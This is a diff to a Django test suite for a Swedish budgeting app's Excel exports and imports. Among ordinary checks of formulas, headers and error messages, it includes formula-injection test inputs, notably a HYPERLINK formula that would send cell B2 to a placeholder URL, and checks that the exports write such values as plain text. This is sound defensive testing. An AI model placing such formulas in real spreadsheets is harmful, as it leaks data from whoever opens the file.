@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import datetime
+import re
 from decimal import Decimal
 from io import BytesIO
 
@@ -13,7 +14,7 @@ from django.urls import reverse
 from openpyxl import Workbook, load_workbook
 
 from budgets import services
-from budgets.models import Budget, BudgetAmount, BudgetLine
+from budgets.models import Budget, BudgetAmount, BudgetLine, BudgetVersion
 from tests.decisions import decide
 
 
@@ -42,7 +43,24 @@ def draft(association):
     return version, line
 
 
-def test_the_export_holds_real_numbers_with_bold_totals(db, client):
+def evaluate(sheet, ref: str):
+    """The value of a cell, computing the exports' formulas (=SUM(B3:B7), =B5+B9,
+    =B10-B11) the way a spreadsheet program would."""
+    value = sheet[ref].value
+    if not (isinstance(value, str) and value.startswith("=")) or sheet[ref].data_type != "f":
+        return value or 0
+    expression = value[1:]
+    for first, last in re.findall(r"SUM\(([A-Z]+\d+):([A-Z]+\d+)\)", expression):
+        column = re.match(r"[A-Z]+", first).group(0)
+        start, end = int(first[len(column) :]), int(last[len(column) :])
+        total = sum(evaluate(sheet, f"{column}{n}") for n in range(start, end + 1))
+        expression = expression.replace(f"SUM({first}:{last})", f"({total})")
+    expression = re.sub(r"[A-Z]+\d+", lambda m: f"({evaluate(sheet, m.group(0))})", expression)
+    assert re.fullmatch(r"[-+() 0-9.]+", expression), expression
+    return eval(expression)  # noqa: S307 - digits, signs and brackets only
+
+
+def test_the_export_holds_real_numbers_with_sums_as_formulas_and_a_header_block(db, client):
     call_command("load_demo", verbosity=0, with_users=False)
     from django.contrib.auth import get_user_model
 
@@ -56,15 +74,103 @@ def test_the_export_holds_real_numbers_with_bold_totals(db, client):
     response = client.get(url("budget_xlsx", slug="vastra-malardalen", year=2023))
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     sheet = load_workbook(BytesIO(response.content)).active
-    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    assert sheet["A1"].value == "Samordningsförbundet Västra Mälardalen"
+    assert sheet["A2"].value.startswith("Budget 2023, version 1, beslutad 2022-11-24")
+    assert sheet["A3"].value == f"Utskriven {datetime.date.today():%Y-%m-%d}"
+    rows = {row[0].value: row for row in sheet.iter_rows(min_row=5)}
     assert rows["Samordning och ekonomi"][1].value == 612000
-    assert rows["Årets resultat"][1].value == -447000
-    assert rows["Årets resultat"][1].font.bold
-    assert sheet.freeze_panes == "B2"
+    result = rows["Årets resultat"][1]
+    assert result.data_type == "f" and result.font.bold
+    assert evaluate(sheet, result.coordinate) == -447000
+    costs = rows["Summa verksamhetens kostnader"][1]
+    assert costs.value.startswith("=SUM(") and evaluate(sheet, costs.coordinate) == 871000
+    assert sheet.freeze_panes == "B6"
     comparison = client.get(url("comparison_xlsx", slug="vastra-malardalen", year=2023))
     sheet = load_workbook(BytesIO(comparison.content)).active
-    result = [r for r in sheet.iter_rows(values_only=True) if r[0] == "Årets resultat"][0]
-    assert result[1:5] == (738000, -880000, -602000, -447000)
+    assert sheet["A1"].value == "Samordningsförbundet Västra Mälardalen"
+    result = [r for r in sheet.iter_rows() if r[0].value == "Årets resultat"][0]
+    assert [evaluate(sheet, c.coordinate) for c in result[1:5]] == [
+        738000,
+        -880000,
+        -602000,
+        -447000,
+    ]
+
+
+def test_text_in_every_export_is_text_never_a_formula(kansli_client, association, draft):
+    version, line = draft
+    line.name = '=HYPERLINK("https://x"&B2,"Klicka här")'
+    line.save()
+    services.budget_line_save(
+        association=association,
+        data={"group": BudgetLine.ADMINISTRATION, "name": "@SUM(1+1)\x1b"},
+    )
+    sheet = load_workbook(BytesIO(kansli_client.get(url("budget_xlsx", year=2025)).content)).active
+    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
+    link = cells['=HYPERLINK("https://x"&B2,"Klicka här")']
+    assert link.data_type == "s" and link.quotePrefix
+    assert cells["@SUM(1+1)"].data_type == "s"  # the control character is dropped
+    assert not [c for c in cells.values() if c.data_type == "f" and "HYPERLINK" in c.value]
+
+
+def test_the_plans_workbook_shows_a_goal_written_as_a_formula_as_text(association):
+    from insatser.models import Goal
+    from reporting import documents, render
+
+    Goal.objects.create(association=association, year=2025, area="individ", text="=1+1")
+    Goal.objects.create(association=association, year=2025, area="metoder", text="+46 70 123")
+    workbook = load_workbook(BytesIO(render.xlsx_bytes(documents.plan(association, 2025))))
+    cells = {c.value: c for ws in workbook for row in ws.iter_rows() for c in row if c.value}
+    assert cells["=1+1"].data_type == "s" and cells["+46 70 123"].data_type == "s"
+    assert not [c for c in cells.values() if c.data_type == "f"]
+
+
+def test_document_workbooks_show_text_as_text_and_percentages_as_printed(association):
+    from reporting import render
+    from reporting.documents import Document, Row, Section, Table
+
+    doc = Document(
+        kind="vp",
+        slug="verksamhetsplan",
+        title="Verksamhetsplan",
+        association=association,
+        year=2025,
+        sections=[
+            Section(
+                "mal",
+                "1",
+                "Mål",
+                [
+                    Table(
+                        "Mål 2025",
+                        ["Mål", "Mätetal"],
+                        [Row("Mål 1", ["=1+1", "-5 %"])],
+                        unit="text",
+                    ),
+                    Table(
+                        "Femårsöversikt",
+                        ["2024", "2025"],
+                        [
+                            Row("Årets resultat (tkr)", [Decimal("-711953"), Decimal("81778")]),
+                            Row("Soliditet (%)", [Decimal("15.6873"), Decimal("16.04")]),
+                        ],
+                        unit="blandat",
+                    ),
+                ],
+            )
+        ],
+    )
+    workbook = load_workbook(BytesIO(render.xlsx_bytes(doc)))
+    goals = workbook["Mål 2025"]
+    cells = {c.value: c for row in goals.iter_rows() for c in row if c.value is not None}
+    assert cells["=1+1"].data_type == "s" and cells["-5 %"].data_type == "s"
+    assert goals["A2"].value == "Verksamhetsplan 2025, utkast"
+    overview = {r[0].value: r[1:] for r in workbook["Femårsöversikt"].iter_rows()}
+    assert "Årets resultat (tkr)" not in overview
+    assert overview["Årets resultat (kr)"][0].value == -711953
+    solidity = overview["Soliditet (%)"]
+    assert solidity[0].value == pytest.approx(0.157) and solidity[0].number_format == "0.0%"
+    assert solidity[1].value == pytest.approx(0.16)
 
 
 def test_the_round_trip_changes_nothing(kansli_client, draft):
@@ -132,7 +238,8 @@ def test_each_rejected_row_is_listed_with_its_reason(kansli_client, draft):
     version, line = draft
     upload = _xlsx([["Budgetpost", "Budget 2025"], ["Styrelse", "tolv"], ["Okänd post", 5]])
     page = kansli_client.post(url("budget_import", year=2025), {"file": upload}).content.decode()
-    assert "bokstäver" in page and "Okänd budgetpost." in page
+    assert "Cellen B2: ”tolv” är inget belopp: det innehåller bokstäver." in page
+    assert "heter inte som någon budgetpost" in page and 'name="map-0"' in page
     assert 'name="payload"' not in page
     decide(version, datetime.date(2024, 11, 1))
     decided = _xlsx([["Budgetpost", "Budget 2025"], ["Styrelse", 1]])
@@ -151,3 +258,62 @@ def test_a_closed_year_is_named_as_the_reason(kansli_client, draft):
     page = kansli_client.post(url("budget_import", year=2025), {"file": upload}).content.decode()
     assert "Räkenskapsåret 2025 är stängt." in page
     assert BudgetAmount.objects.get().amount == Decimal(80000)
+
+
+def test_a_stale_preview_says_what_changed_instead_of_blaming_somebody(kansli_client, draft):
+    version, line = draft
+    upload = _xlsx([["Budgetpost", "Budget 2025"], ["Styrelse", 85000]])
+    page = kansli_client.post(url("budget_import", year=2025), {"file": upload}).content.decode()
+    payload = page.split('name="payload" value="')[1].split('"')[0]
+    services.budget_amount_set(
+        budget_version=version, line=line, offset=0, amount=Decimal(70000), expected_version=1
+    )
+    response = kansli_client.post(
+        url("budget_import_apply", year=2025), {"payload": payload}, follow=True
+    )
+    text = response.content.decode().replace("&nbsp;", "\xa0")
+    assert "budgeten har ändrats efter förhandsgranskningen (Styrelse 2025 (nu 70\xa0000 kr))" in (
+        text
+    )
+    assert "någon annan" not in text
+    assert BudgetAmount.objects.get(line=line, offset=0).amount == Decimal(70000)
+    # The board decides the version (as the decision page would) after the preview.
+    BudgetVersion.objects.filter(pk=version.pk).update(
+        status=BudgetVersion.DECIDED, decided_on=datetime.date(2024, 11, 1)
+    )
+    response = kansli_client.post(
+        url("budget_import_apply", year=2025), {"payload": payload}, follow=True
+    )
+    assert "version 1 beslutades 2024-11-01 efter förhandsgranskningen" in (
+        response.content.decode()
+    )
+
+
+def test_the_annual_report_workbook_has_kronor_and_percentages_as_printed(db):
+    from finsam.money import round_to
+    from members.models import Association
+    from reporting import documents, render
+    from reporting.selectors import five_year_overview
+
+    call_command("load_demo", verbosity=0, with_users=False)
+    vml = Association.objects.get(slug="vastmanland")
+    workbook = load_workbook(BytesIO(render.xlsx_bytes(documents.annual_report(vml, 2024))))
+    texts = [
+        c.value
+        for ws in workbook
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str)
+    ]
+    assert not [t for t in texts if "(tkr)" in t]
+    assert workbook["Femårsöversikt"]["A1"].value == "Samordningsförbundet Västmanland"
+    solidity = {r[0].value: r[1:] for r in workbook["Femårsöversikt"].iter_rows()}["Soliditet (%)"]
+    printed = [o.solidity_percent for o in five_year_overview(association=vml, year=2024)]
+    checked = 0
+    for cell, value in zip(solidity, printed, strict=True):
+        if value is None:
+            continue
+        assert cell.number_format == "0.0%"
+        assert cell.value == pytest.approx(float(round_to(value, 1) / 100), abs=1e-12)
+        checked += 1
+    assert checked >= 1
